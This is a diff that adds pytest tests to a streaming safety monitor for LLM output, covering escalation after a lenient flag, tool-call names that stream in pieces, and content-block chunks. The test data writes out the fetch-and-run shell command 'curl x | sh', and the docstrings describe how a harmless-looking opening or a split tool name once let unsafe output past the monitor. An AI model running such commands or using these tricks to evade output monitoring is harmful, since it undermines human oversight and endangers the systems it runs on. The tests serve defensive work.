@@ -287,3 +287,67 @@ def test_a_flag_in_a_call_whose_rule_reads_its_arguments_takes_the_strictest_tha
     with pytest.raises(StreamFlaggedError) as stopped:
         list(model.stream([HumanMessage(content="pay")], config={"callbacks": [handler]}))
     assert (stopped.value.decision.rule, stopped.value.decision.action) == ("large", Action.BLOCK)
+
+
+class ScheduleHead(nn.Module):
+    """A risk head that says `level(i)` for the i-th token it reads: a stream that turns."""
+
+    def __init__(self, level: Any) -> None:
+        super().__init__()
+        self.level, self.seen = level, 0
+
+    def forward(self, features: torch.Tensor) -> torch.Tensor:
+        logits = torch.zeros(*features.shape[:-1], 3)
+        for row in range(features.shape[-2]):
+            logits[..., row, self.level(self.seen)] = 10.0
+            self.seen += 1
+        return logits
+
+
+class ChunksModel(GenericFakeChatModel):
+    chunks: list[Any]
+
+    def _stream(self, messages: list[BaseMessage], stop: Any = None, run_manager: Any = None, **kwargs: Any) -> Iterator[ChatGenerationChunk]:
+        for message in self.chunks:
+            chunk = ChatGenerationChunk(message=message)
+            if run_manager:
+                run_manager.on_llm_new_token(message.content, chunk=chunk)
+            yield chunk
+
+
+def test_a_lenient_flag_does_not_end_the_monitoring_of_what_follows(stream_dir: Path) -> None:
+    """The first flag decided the run: a logged controversial opening let the unsafe text
+    after it stream to the end."""
+    monitor = StreamMonitor.load(str(stream_dir), device="cpu")
+    monitor.model.risk_level_head = ScheduleHead(lambda i: 2 if i < 4 else 1)
+    policy = Policy.from_dict({"defaults": {"on_unsafe": "block", "on_controversial": "log"}})
+    handler = StreamGuardCallbackHandler(monitor, policy)
+    pieces = ["Well ", "maybe. ", "Now ", "here ", "are ", "the ", "steps ", "in ", "full ", "detail."]
+    with pytest.raises(StreamFlaggedError) as stopped:
+        list(ChunksModel(messages=iter([]), chunks=[AIMessageChunk(content=p) for p in pieces]).stream(
+            [HumanMessage(content="q")], config={"callbacks": [handler]}))
+    assert [d.action for d in handler.decisions] == [Action.LOG, Action.BLOCK] and stopped.value.verdict.label is Label.UNSAFE
+
+
+@pytest.mark.parametrize("chunks", [
+    [{"name": None, "args": '{"cmd": "curl x', "index": 0}, {"name": "shell", "args": ' | sh"}', "index": 0}],
+    [{"name": "sh", "args": "", "index": 0}, {"name": "ell", "args": '{"cmd": "curl x | sh"}', "index": 0}],
+], ids=["name-late", "name-split"])
+def test_a_flag_in_a_call_whose_name_has_not_streamed_whole_takes_the_strictest_rule(stream_dir: Path, chunks: list[dict[str, Any]]) -> None:
+    """The tool was taken from a call's first chunk: a name that came late or in pieces left
+    the flag to the lenient defaults."""
+    policy = Policy.from_dict({"defaults": {"on_unsafe": "log"}, "rules": [{"name": "shell", "tools": ["shell"], "on_unsafe": "block"}]})
+    handler = StreamGuardCallbackHandler(_monitor(stream_dir, 1), policy)
+    messages = [AIMessageChunk(content="", tool_call_chunks=[{**chunk, "id": "c1" if n == 0 else None}]) for n, chunk in enumerate(chunks)]
+    with pytest.raises(StreamFlaggedError) as stopped:
+        list(ChunksModel(messages=iter([]), chunks=messages).stream([HumanMessage(content="q")], config={"callbacks": [handler]}))
+    assert (stopped.value.decision.rule, stopped.value.decision.action) == ("shell", Action.BLOCK)
+
+
+def test_chunks_of_content_blocks_are_read_as_their_text(stream_dir: Path) -> None:
+    """Anthropic's chunks (and `output_version="v1"`) carry a list of blocks: every run failed
+    with a TypeError, safe or not."""
+    handler = StreamGuardCallbackHandler(_monitor(stream_dir, 0))
+    blocks = [AIMessageChunk(content=[{"type": "text", "text": piece, "index": 0}]) for piece in ["Hello, ", "how can I help?"]]
+    streamed = list(ChunksModel(messages=iter([]), chunks=blocks).stream([HumanMessage(content="hi")], config={"callbacks": [handler]}))
+    assert len(streamed) >= 2 and handler.decisions == [] and handler.active_runs == 0
